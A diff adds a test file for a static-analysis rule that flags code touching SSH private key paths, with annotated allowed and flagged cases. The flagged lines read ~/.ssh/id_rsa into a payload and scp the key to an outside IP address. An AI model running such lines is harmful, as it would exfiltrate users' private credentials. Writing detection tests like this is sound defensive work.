@@ -1,0 +1,39 @@
+# An SSH key handed to the client that logs in with it is not read by the
+# program: paramiko's key_filename=, a key class's from_private_key_file,
+# ssh -i, a --key option's default, a name bound to the path and used so.
+import argparse
+import os
+import subprocess
+from pathlib import Path
+
+import paramiko
+
+# ok: sensitive-credential-path
+KEY = os.path.expanduser("~/.ssh/id_ed25519")
+
+client = paramiko.SSHClient()
+client.set_missing_host_key_policy(paramiko.RejectPolicy())
+client.connect("build.internal", username="deploy", key_filename=KEY)
+# ok: sensitive-credential-path
+# ruleid: environment-read
+client.connect("build.internal", key_filename=os.environ.get("SSH_KEY", "~/.ssh/id_rsa"))
+# ok: sensitive-credential-path
+pkey = paramiko.Ed25519Key.from_private_key_file(str(Path.home() / ".ssh" / "id_ed25519"))
+# ok: sensitive-credential-path
+subprocess.run(["ssh", "-i", os.path.expanduser("~/.ssh/id_ed25519"), "deploy@build.internal", "uptime"])
+
+ap = argparse.ArgumentParser()
+# ok: sensitive-credential-path
+ap.add_argument("--key", default=os.path.expanduser("~/.ssh/id_ed25519"))
+
+# the key read, sent, or bound to a name also used otherwise
+# ruleid: sensitive-credential-path
+STOLEN = os.path.expanduser("~/.ssh/id_rsa")
+client.connect("build.internal", key_filename=STOLEN)
+payload = open(STOLEN).read()
+# ruleid: sensitive-credential-path
+data = Path("~/.ssh/id_ed25519").expanduser().read_text()
+# ruleid: sensitive-credential-path
+ap.add_argument("--out", default="~/.ssh/id_rsa")
+# ruleid: sensitive-credential-path
+subprocess.run(["scp", os.path.expanduser("~/.ssh/id_rsa"), "203.0.113.9:/tmp/"])
